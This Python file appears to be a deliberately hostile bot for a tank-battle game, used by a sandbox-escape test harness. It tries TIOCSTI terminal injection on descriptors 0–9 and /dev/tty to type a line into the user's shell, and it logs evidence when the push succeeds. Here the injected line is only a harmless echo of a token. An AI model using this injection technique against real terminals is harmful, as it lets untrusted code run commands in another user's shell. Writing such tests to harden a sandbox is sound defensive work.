"""Hostile Tanks bot: terminal injection (TIOCSTI).

If a bot shares the terminal of whoever runs cf-fight, TIOCSTI pushes
characters into that terminal's input: a command typed into the user's
shell. The escape driver runs cf-fight with a pseudo-terminal as its
controlling terminal and standard input and reads it after the fight; the
bot injects a line carrying the run's token through descriptors 0..9 and
/dev/tty.
"""
import os
import sys
import time

CFG = {}  # @ESCAPE_CONFIG@

ESCAPED = []


def evidence(what):
    """An attack step worked: say so in the log and in the game (walk up)."""
    ESCAPED.append(what)
    try:
        sys.stderr.write('ESCAPE-EVIDENCE %s\n' % what)
        sys.stderr.flush()
    except Exception:
        pass


def note(what):
    try:
        sys.stderr.write('note: %s\n' % what)
        sys.stderr.flush()
    except Exception:
        pass


def libc():
    import ctypes
    lib = ctypes.CDLL(None, use_errno=True)
    lib.syscall.restype = ctypes.c_long
    return lib


def name_process():
    """Put the run's token in the process name so the host can find strays."""
    try:
        libc().prctl(15, CFG.get('token', 'cfesc').encode()[:15], 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


import fcntl
import termios


def attack():
    line = ('echo %s-tty\n' % CFG.get('token', 'cfesc')).encode()
    fds = list(range(0, 10))
    try:
        fds.append(os.open('/dev/tty', os.O_RDWR))
    except OSError as e:
        note('/dev/tty: %s' % e)
    for fd in fds:
        try:
            for ch in line:
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
            evidence('TIOCSTI accepted on fd %d' % fd)
        except OSError:
            pass


class Main:
    def __init__(self):
        self.attacked = False

    def decide_tick(self, tick, my_state, enemy_state):
        if not self.attacked:
            self.attacked = True
            attack()
        return (['M', 'U'] if my_state['y'] < 9 else ['M', 'D']) if ESCAPED else 'N'
